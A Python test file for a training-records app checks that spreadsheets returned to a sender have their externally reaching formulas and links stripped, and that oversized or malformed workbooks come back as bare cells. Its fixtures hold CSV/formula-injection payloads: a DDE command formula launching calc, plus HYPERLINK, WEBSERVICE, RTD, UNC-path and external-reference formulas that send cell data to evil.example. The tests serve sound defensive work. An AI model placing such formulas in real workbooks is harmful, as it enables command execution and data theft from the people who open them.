"""What goes back to a sender reaches nothing outside; a workbook that is dangerous to copy goes back as its cells."""

import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from packed_files import PEOPLE, SHEET, TYPES, Maker, packed, sheet, text
from xlsxwriter import Workbook

from db.database import Database
from trainer_app.importing import importer
from trainer_app.importing.send_back import Lost, send_back
from trainer_app.lists.read import read_list
from trainer_app.programmes.catalogue import load_catalogue

REACHING = [
    "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/?"&B2,"x")', '=WEBSERVICE("http://evil.example")',
    "='[evil.example.xlsx]S'!A1", '=INDIRECT("evil.example")', "='\\\\evil.example\\x'!A1", '=RTD("evil.example",,"x")',
]  # fmt: skip


def sent_back(path: Path, tmp_path: Path) -> Lost:
    office = Database.create(tmp_path / "office.db")
    reading = read_list(path, country="MM", today=date(2026, 1, 1))
    with office.change("import", rehearse=True) as tx:
        plan = importer.plan(tx, reading, load_catalogue())
    count, lost = send_back(path, plan, tmp_path / "back.xlsx")
    assert count
    return lost


def test_nothing_in_it_reaches_outside(tmp_path: Path) -> None:
    with Workbook(str(tmp_path / "list.xlsx")) as book:
        people = book.add_worksheet("List")
        people.write_row(0, 0, ["No", "Name", "Sex", "Date of birth", "Total"])
        people.write_row(1, 0, [1, "Aye Aye", "F", "31/02/1991"])
        people.write_formula("E2", "=SUM(A2:A2)", None, 1)
        for number, formula in enumerate(REACHING):
            people.write_formula(1, 6 + number, formula, None, "shown")
        people.write_array_formula("F2:F2", '{=WEBSERVICE("http://evil.example")}', None, 7)
        people.write_url("B2", "http://evil.example/x", None, "Aye Aye")
        people.conditional_format("A2", {"type": "formula", "criteria": '=WEBSERVICE("http://evil.example")=1'})
        people.conditional_format("A3", {"type": "formula", "criteria": "=A3>1"})
        people.data_validation("A2", {"validate": "custom", "value": '=WEBSERVICE("http://evil.example")=1'})
        people.data_validation("A3", {"validate": "list", "source": ["F", "M"]})
        book.define_name("reached", '=WEBSERVICE("http://evil.example")')
    lost = sent_back(tmp_path / "list.xlsx", tmp_path)
    assert str(lost) == "Not in this copy: links and formulas that reach outside the workbook."
    with zipfile.ZipFile(tmp_path / "back.xlsx") as archive:
        assert not [name for name in archive.namelist() if b"evil" in archive.read(name)]
    back = load_workbook(tmp_path / "back.xlsx")["List"]
    assert (back["E2"].value, back["F2"].value, back["B2"].value) == ("=SUM(A2:A2)", 7, "Aye Aye")
    assert {back.cell(2, 7 + number).value for number in range(len(REACHING))} == {"shown"}
    assert len(back.data_validations.dataValidation) == len(list(back.conditional_formatting)) == 1


BIRTH = f'<row r="4"><c r="A4"><v>3</v></c>{text("B4", "Su Su")}{text("C4", "F")}{text("D4", "31/02/1991")}</row>'
MAIN_PART = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
KNOWN = TYPES.replace("</Types>", f'<Override PartName="/xl/workbook.xml" ContentType="{MAIN_PART}"/></Types>')
ROWS = PEOPLE.replace("</row>", text("D1", "Date of birth") + "</row>", 1) + BIRTH


def odd(content: str, *, other: str = "") -> Maker:
    return packed({"[Content_Types].xml": KNOWN, SHEET: content, "xl/theme/other.xml": other})


@pytest.mark.parametrize(
    "make",
    [
        packed({SHEET: sheet(ROWS)}),  # the other library finds no workbook in it
        odd(sheet(ROWS, after='<mergeCells><mergeCell ref="A9:XFD1048576"/></mergeCells>')),
        odd(sheet(ROWS, after="<hyperlinks>" + '<hyperlink ref="A1"/>' * 60_000 + "</hyperlinks>")),
        odd(sheet(ROWS), other=" " * (49 << 20)),
    ],
    ids=["odd", "merged", "links", "large"],
)
def test_a_workbook_that_is_dangerous_to_copy_goes_back_as_its_cells(make: Maker, tmp_path: Path) -> None:
    make(tmp_path / "list.xlsx")
    assert sent_back(tmp_path / "list.xlsx", tmp_path).all_but_cells
    assert load_workbook(tmp_path / "back.xlsx")["People"]["B4"].value == "Su Su"


def test_any_other_keeps_its_formats(tmp_path: Path) -> None:
    odd(sheet(ROWS, after='<mergeCells><mergeCell ref="A9:C9"/></mergeCells>'))(tmp_path / "list.xlsx")
    assert not sent_back(tmp_path / "list.xlsx", tmp_path).all_but_cells
    assert [str(one) for one in load_workbook(tmp_path / "back.xlsx")["People"].merged_cells.ranges] == ["A9:C9"]
